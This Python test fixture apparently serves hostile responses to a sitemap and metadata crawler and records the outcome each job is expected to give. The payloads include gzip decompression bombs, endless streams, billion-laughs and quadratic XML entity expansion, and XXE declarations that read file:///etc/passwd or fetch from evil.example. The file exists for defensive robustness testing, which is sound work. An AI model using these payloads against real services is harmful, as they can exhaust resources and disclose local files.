"""Hostile inputs that try to exhaust memory or time: what is served, which job reads it, and the expected outcome."""

import asyncio
import gzip
import json
import zlib
from collections.abc import Callable, Iterable, Iterator, Mapping
from dataclasses import dataclass, field
from functools import cache, partial
from itertools import repeat
from typing import Any

from tests.hostile.server import Answer, answer, endless, raw, redirect, silence

MEBIBYTE = 1_048_576
OK = b"HTTP/1.1 200 OK\r\nContent-Type: application/xml\r\n"
ENTRY = b"<url><loc>https://shop.example/a</loc></url>"


@dataclass(frozen=True)
class Bomb:
    """``job`` reads ``answer`` and must end with ``code``. ``settings`` are those of the job."""

    job: str
    code: str
    answer: Callable[[], Answer]
    settings: Mapping[str, Any] = field(default_factory=dict)
    where: str = ""
    """The path of the answer, if it is not the first path that the job requests."""

    @property
    def at(self) -> str:
        """The path of the answer on its host."""
        return self.where or {
            "import": "/sitemap.xml",
            "discovery": "/sitemap.xml",
            "robots": "/robots.txt",
            "deep scan": "*",
        }.get(self.job, "/")


def pieces(*parts: bytes | Iterable[bytes]) -> Answer:
    """Return an answer of these parts, which are generated while they are sent."""

    async def send(writer: asyncio.StreamWriter) -> None:
        writer.write(OK + b"\r\n")
        for part in parts:
            for piece in (part,) if isinstance(part, bytes) else part:
                writer.write(piece)
                await writer.drain()

    return send


def html(*parts: bytes | Iterable[bytes]) -> Answer:
    """Return a page of these parts."""
    body = b"".join(piece for part in parts for piece in ((part,) if isinstance(part, bytes) else part))
    return answer(200, body)


def json_ld(*parts: bytes | Iterable[bytes]) -> Answer:
    """Return a page with one JSON-LD script of these parts."""
    return html(b"<title>Shop</title><script type=application/ld+json>", *parts, b"</script><p>Hello")


def of(text: bytes, size: int) -> Iterator[bytes]:
    """Yield ``text`` repeated up to ``size`` bytes, in pieces of about 64 KiB."""
    times = 65_536 // len(text) + 1
    return repeat(text * times, size // (len(text) * times))


@cache
def packed(text: bytes, size: int, head: bytes = b"", layers: int = 1) -> bytes:
    """Return ``head`` and ``size`` bytes of ``text``, gzipped ``layers`` times."""
    packer = zlib.compressobj(9, zlib.DEFLATED, 31)
    body = packer.compress(head)
    body += b"".join(packer.compress(piece) for piece in of(text, size)) + packer.flush()
    for _ in range(layers - 1):
        body = gzip.compress(body, 9)
    return body


def declaring(entities: str) -> Callable[[], Answer]:
    """Return a urlset that declares ``entities`` and uses the last one."""
    body = (
        f"<?xml version='1.0'?><!DOCTYPE u [{entities}]><urlset><url><loc>https://shop.example/&z;</loc></url></urlset>"
    )
    return lambda: pieces(body.encode())


LAUGHS = "<!ENTITY a 'ha'>" + "".join(
    f"<!ENTITY {b} '{f'&{a};' * 10}'>" for a, b in zip("abcdefghi", "bcdefghiz", strict=True)
)
QUADRATIC = f"<!ENTITY z '{'x' * 100_000}'>"
URLS = b"<urlset>"
TITLE = b"<title>Shop</title><p>"
SHOP = b'{"@type":"Store","name":"x","address":{"addressLocality":"y"},"geo":{"@id":"z"},"sameAs":["https://x.com/a"]}'
EMBEDDED = b"<img src='data:image/png;base64,"
UTF_8 = b"<meta charset=utf-8><title>Shop</title><p>"

BOMBS: dict[str, Bomb] = {
    "58": Bomb("get", "too_large", lambda: answer(200, packed(b"\0", 200 * MEBIBYTE), {"Content-Encoding": "gzip"})),
    "58-in-the-error": Bomb(
        "get", "500", lambda: answer(500, packed(b"\0", 200 * MEBIBYTE), {"Content-Encoding": "gzip"})
    ),
    "58-page": Bomb(
        "metadata",
        "too_complex",
        lambda: answer(200, packed(b"<p>x", 200 * MEBIBYTE), {"Content-Encoding": "gzip"}),
    ),
    "58-embedded": Bomb(
        "metadata",
        "read",
        lambda: answer(200, packed(b"QUJD", 200 * MEBIBYTE, TITLE + EMBEDDED), {"Content-Encoding": "gzip"}),
    ),
    "58-places": Bomb(
        "deep scan", "too_large", lambda: answer(200, packed(b"\0", 200 * MEBIBYTE), {"Content-Encoding": "gzip"})
    ),
    "59": Bomb("import", "capped", lambda: answer(200, packed(b" ", 200 * MEBIBYTE, URLS + ENTRY))),
    "60": Bomb("import", "capped", lambda: answer(200, packed(b" ", 200 * MEBIBYTE, URLS + ENTRY, layers=2))),
    "61": Bomb("get", "bad_response", lambda: answer(200, b"x", {"Content-Encoding": ", ".join(["gzip"] * 50)})),
    "62": Bomb("get", "too_large", lambda: endless(OK + b"\r\n", b"x" * 65_536)),
    "62-urls": Bomb("import", "capped", lambda: endless(OK + b"\r\n" + URLS, ENTRY * 1_000)),
    "66": Bomb("get", "timeout", lambda: silence),
    "66-places": Bomb("deep scan", "timeout", lambda: silence),
    "67": Bomb("get", "bad_response", lambda: raw(OK + b"A: ", *of(b"b", 20 * MEBIBYTE), b"\r\n\r\n")),
    "68": Bomb("get", "bad_response", lambda: raw(OK, *of(b"A: b\r\n", 200_000 * 6), b"\r\n")),
    "76": Bomb("import", "not_a_sitemap", declaring(LAUGHS)),
    "76-parameter": Bomb("import", "not_a_sitemap", declaring("<!ENTITY % a 'b'><!ENTITY % c '%a;%a;'>%c;")),
    "77": Bomb("import", "not_a_sitemap", declaring(QUADRATIC)),
    "78-file": Bomb("import", "not_a_sitemap", declaring("<!ENTITY z SYSTEM 'file:///etc/passwd'>")),
    "78-http": Bomb("import", "not_a_sitemap", declaring("<!ENTITY z SYSTEM 'http://evil.example/'>")),
    "78-parameter": Bomb("import", "not_a_sitemap", declaring("<!ENTITY % z SYSTEM 'http://evil.example/'>%z;")),
    "79": Bomb(
        "import", "imported",
        lambda: pieces(b"<!DOCTYPE urlset SYSTEM 'http://evil.example/x.dtd'>", URLS, ENTRY, b"</urlset>"),
    ),
    "79-public": Bomb(
        "import", "imported",
        lambda: pieces(b"<!DOCTYPE urlset PUBLIC '-//x//y' 'http://evil.example/'>", URLS, ENTRY, b"</urlset>"),
    ),
    "80": Bomb("import", "partial", lambda: pieces(URLS, ENTRY, b"<a>" * 200_000, b"</a>" * 200_000, ENTRY, b"</urlset>")),
    "80-urls": Bomb("import", "capped", lambda: pieces(URLS, b"<url>" * 200_000)),
    "81": Bomb(
        "import", "partial",
        lambda: pieces(URLS, b"<url ", (b"a%d='x' " % n for n in range(100_000)), b">", ENTRY, b"</urlset>"),
    ),
    "82": Bomb(
        "import", "imported",
        lambda: pieces(URLS, b"<url><loc>https://shop.example/", of(b"x", 20 * MEBIBYTE), b"</loc></url>", ENTRY, b"</urlset>"),
    ),
    "82-cdata": Bomb(
        "import", "imported",
        lambda: pieces(URLS, b"<url><loc><![CDATA[", of(b"&<", 20 * MEBIBYTE), b"]]></loc></url>", ENTRY, b"</urlset>"),
    ),
    "82-line": Bomb("import", "imported", lambda: pieces(b"https://shop.example/a\nhttps://x/", of(b"x", 20 * MEBIBYTE))),
    "83": Bomb("import", "capped", lambda: pieces(URLS, of(b"<url/>", 8_000_000 * 6))),
    "83-no-cap": Bomb(
        "import", "empty", lambda: pieces(URLS, of(b"<url/>", 1_000_000 * 6), b"</urlset>"),
        {"import_max_urls": 10**9},
    ),
    "84": Bomb(
        "import", "capped",
        lambda: pieces(URLS, (b"<url><loc>https://shop.example/%d</loc></url>" % n for n in range(50_001)), b"</urlset>"),
    ),
    "85": Bomb("import", "capped", lambda: pieces(URLS, ENTRY, of(b" \n" * 32_000, 51 * MEBIBYTE), ENTRY)),
    "96": Bomb(
        "discovery", "found_partly",
        lambda: pieces(
            b"<sitemapindex>",
            (b"<sitemap><loc>http://shop.example/%d.xml</loc></sitemap>" % n for n in range(50_000)), b"</sitemapindex>",
        ),
        {"discovery_max_requests": 30},
    ),
    "98": Bomb("robots", "1 sitemaps", lambda: pieces(b"Sitemap: /s.xml\n", of(b"Disallow: /x\n", 100 * MEBIBYTE))),
    "98-line": Bomb("robots", "1 sitemaps", lambda: pieces(b"Sitemap: /s.xml\nDisallow: /", of(b"x", MEBIBYTE), b"\n")),
    "98-agents": Bomb("robots", "0 sitemaps", lambda: pieces(of(b"User-agent: a\n", 250_000), of(b"Disallow: /x\n", 250_000))),
    "98-cr": Bomb("robots", "1 sitemaps", lambda: pieces(b"\xef\xbb\xbfSitemap: /s.xml\rUser-agent: *\rDisallow: /\r")),
    "98-html": Bomb("robots", "0 sitemaps", lambda: pieces(b"<!doctype html><p>", of(b"Not found ", 400_000))),
    "99": Bomb("metadata", "too_complex", lambda: html(TITLE, of(b"<div>", 5_000_000))),
    "99-flat": Bomb("metadata", "read", lambda: html(TITLE, of(b"<b></b>", 5_000_000))),
    "99-blocks": Bomb("metadata", "too_complex", lambda: html(TITLE, of(b"<p>x", 5_000_000))),
    "99-attributes": Bomb("metadata", "too_complex", lambda: html(TITLE, of(b"<a href=x y=z>", 5_000_000))),
    "99-text": Bomb("metadata", "read", lambda: html(TITLE, of(b"word ", 5_000_000))),
    "99-wide-text": Bomb("metadata", "read", lambda: html(UTF_8, of("😀 ".encode(), 5_000_000))),
    "99-one-wide": Bomb("metadata", "read", lambda: html(UTF_8, "😀".encode(), of(b"word ", 5_000_000))),
    "99-fonts": Bomb(
        "metadata", "too_complex",
        lambda: html(TITLE, (b"<font a=%d>" % n for n in range(1_400)), b"</p>", of(b"<p>x</p>", 500_000)),
    ),
    "99-comments": Bomb("metadata", "read", lambda: html(TITLE, of(b"<?>", 1_500_000))),
    "99-entities": Bomb("metadata", "read", lambda: html(TITLE, of(b"&amp;", 5_000_000))),
    "99-discovery": Bomb(
        "discovery", "no_sitemaps", lambda: html(UTF_8, "😀".encode(), of(b"<a href=sitemap.html>site map ", 5_000_000)),
        where="/",
    ),
    "100": Bomb("metadata", "read", lambda: html(b"<title>", of(b"Shop ", MEBIBYTE), b"</title><p>Hello")),
    "105-at": Bomb("metadata", "read", lambda: html(TITLE, of(b"a@", MEBIBYTE))),
    "105-dash": Bomb("metadata", "read", lambda: html(TITLE, of(b"1-", MEBIBYTE))),
    "105-digits": Bomb("metadata", "read", lambda: html(b"<html lang=de-DE>", TITLE, of(b"030 1234567 ", MEBIBYTE))),
    "105-dots": Bomb("metadata", "read", lambda: html(TITLE, of(b"a.", MEBIBYTE), b"@", of(b"a.", MEBIBYTE))),
    "105-json": Bomb(
        "metadata", "read",
        lambda: html(b"<title>Shop</title><script type=application/ld+json>", of(b"[{\"a\":", MEBIBYTE), b"</script><p>Hello"),
    ),
    "105-json-values": Bomb("metadata", "read", lambda: json_ld(b"[", of(b'{"a":1},', MEBIBYTE), b"{}]")),
    "105-json-keys": Bomb("metadata", "read", lambda: json_ld(b"{", (b'"%d":1 ' % n for n in range(90_000)))),
    "105-json-quotes": Bomb("metadata", "read", lambda: json_ld(of(b"['x' ", MEBIBYTE))),
    "105-json-shops": Bomb("metadata", "read", lambda: json_ld(b"[", of(SHOP + b",", MEBIBYTE), b"{}]")),
}  # fmt: skip

IMAGE = b"<image:image><image:loc>https://shop.example/i.jpg</image:loc></image:image>"
FULL = b"<url><loc>https://shop.example/a</loc>" + IMAGE * 40 + b"</url>"


def large(megabytes: int) -> Answer:
    """Return a valid sitemap of that size."""
    return pieces(URLS, of(FULL, megabytes * 1_000_000), b"</urlset>")


LARGE = {megabytes: Bomb("import", "imported", partial(large, megabytes)) for megabytes in (10, 50)}
"""Valid sitemaps, by size in MB."""

EVIL = "evil.example"


def sites() -> dict[str, dict[str, Answer]]:
    """Return each bomb on a host of its own, a harmless site for the warm-up, and a host that must never be requested."""
    found: dict[str, dict[str, Answer]] = {
        f"bomb-{name}.example": {bomb.at: bomb.answer()} for name, bomb in BOMBS.items()
    }
    found |= {f"bomb-large-{megabytes}.example": {bomb.at: bomb.answer()} for megabytes, bomb in LARGE.items()}
    found["bomb-96.example"]["/"] = answer(200, b"<title>Shop</title><p>Hello")
    harmless = json.dumps({"id": "ChIJ1", "displayName": {"text": "Shop"}}).encode()
    found["shop.example"] = {
        "/sitemap.xml": pieces(URLS, ENTRY * 2_000, b"</urlset>"),
        "/robots.txt": answer(200, b"User-agent: *\nDisallow: /private\n"),
        "/old": redirect("/"),
        "/": answer(200, b"<!doctype html><title>Shop</title><p>info@shop-example.com 030 1234567" + b"<p>x" * 5_000),
        "*": answer(404, harmless),
    }
    found[EVIL] = {"*": answer(200, b"<!ENTITY z 'read'>")}
    return found
